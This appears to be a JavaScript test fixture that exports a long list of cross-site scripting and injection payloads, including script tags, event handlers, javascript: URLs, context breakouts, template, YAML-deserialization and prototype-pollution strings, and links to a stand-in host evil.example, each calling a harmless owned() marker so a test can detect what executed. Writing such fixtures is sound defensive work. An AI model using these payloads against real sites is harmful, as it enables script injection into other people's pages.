// Texts that run where a page takes them for more than text. owned() is there to
// be called; [data-owned] marks what became an element.

const n = (of) => of.map((f, i) => f.replaceAll('#', String(i)))

export const payloads = n([
  // elements that run when they come in
  '<script>owned(#)</script>', '<script data-owned src="https://evil.example/#.js"></script>', '<ScRiPt >owned(#)</sCrIpT>', '<script type="module">owned(#)</script>',
  '<img data-owned src=x onerror=owned(#)>', '<img/src="nope#"/onerror="owned(#)">', '<svg data-owned onload=owned(#)>', '<svg><script>owned(#)</script></svg>',
  '<svg><animate onbegin=owned(#) attributeName=x dur=1s>', '<svg><set attributeName=href to=javascript:owned(#)>', '<svg><use href="data:image/svg+xml,%3Csvg id=x onload=owned(#)%3E#x">',
  '<body onload=owned(#)>', '<iframe data-owned srcdoc="<script>parent.owned(#)</script>">', '<iframe src="javascript:parent.owned(#)">', '<object data="javascript:owned(#)">', '<embed src="javascript:owned(#)">',
  '<video data-owned autoplay onloadstart=owned(#) src=x>', '<audio src=x onerror=owned(#)>', '<details open ontoggle=owned(#)>open</details>', '<input autofocus onfocus=owned(#)>',
  '<select autofocus onfocus=owned(#)>', '<textarea autofocus onfocus=owned(#)>', '<marquee onstart=owned(#)>run</marquee>', '<style>@import "https://evil.example/#.css";</style>',
  '<style data-owned>*{animation:a 1s}@keyframes a{}</style><b onanimationstart=owned(#)>', '<link data-owned rel=stylesheet href="https://evil.example/#.css">', '<meta http-equiv="refresh" content="0;url=javascript:owned(#)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/#">', '<base href="https://evil.example/#/">', '<form data-owned action="javascript:owned(#)"><button>Delete</button></form>',
  '<button formaction="javascript:owned(#)" form=naming>OK</button>', '<a data-owned href="javascript:owned(#)">results</a>', '<math><mtext><table><mglyph><style><img src=x onerror=owned(#)>',
  '<template><img src=x onerror=owned(#)></template>', '<noscript><p title="</noscript><img src=x onerror=owned(#)>">', '<isindex type=image src=x onerror=owned(#)>',
  // out of what they are put into
  '"><script>owned(#)</script>', "'><img src=x onerror=owned(#)>", '" autofocus onfocus="owned(#)', "' onmouseover='owned(#)", '</title><script>owned(#)</script>', '</textarea><svg onload=owned(#)>',
  '</style><script>owned(#)</script>', '</script><script>owned(#)</script>', '--><img src=x onerror=owned(#)><!--', ']]><script>owned(#)</script>', '`;owned(#);`', "';owned(#);//", '\\";owned(#);//', '{{constructor.constructor("owned(#)")()}}',
  '${owned(#)}', '{@html "<img src=x onerror=owned(#)>"}', '{owned(#)}', '<%= owned(#) %>', '#{owned(#)}',
  // addresses
  'javascript:owned(#)', 'JaVaScRiPt:owned(#)', 'java\tscript:owned(#)', ' javascript:owned(#)', 'javascript://example.org/%0aowned(#)', 'data:text/html,<script>owned(#)</script>', 'data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+#',
  'vbscript:owned(#)', 'https://evil.example/repository.git?#', '//evil.example/#', 'blob:https://evil.example/#', 'git+https://x@evil.example/?a=javascript:owned(#)',
  // Markdown, YAML and others
  '[notes](javascript:owned(#))', '![curve](https://evil.example/#.png)', '<https://evil.example/#>', '[x]: javascript:owned(#)\n[x]', '!!js/function "function(){ owned(#) }"', '!!python/object/apply:os.system ["owned #"]',
  '&lt;img src=x onerror=owned(#)&gt;', '&#60;script&#62;owned(#)&#60;/script&#62;', '\\u003cscript\\u003eowned(#)\\u003c/script\\u003e', '%3Cscript%3Eowned(#)%3C/script%3E', '＜script＞owned(#)＜/script＞', '=HYPERLINK("https://evil.example/#";"results")',
  '{"__proto__":{"owned":"#"}}', '__proto__', 'constructor', '\u202egnp.<img src=x onerror=owned(#)>',
])
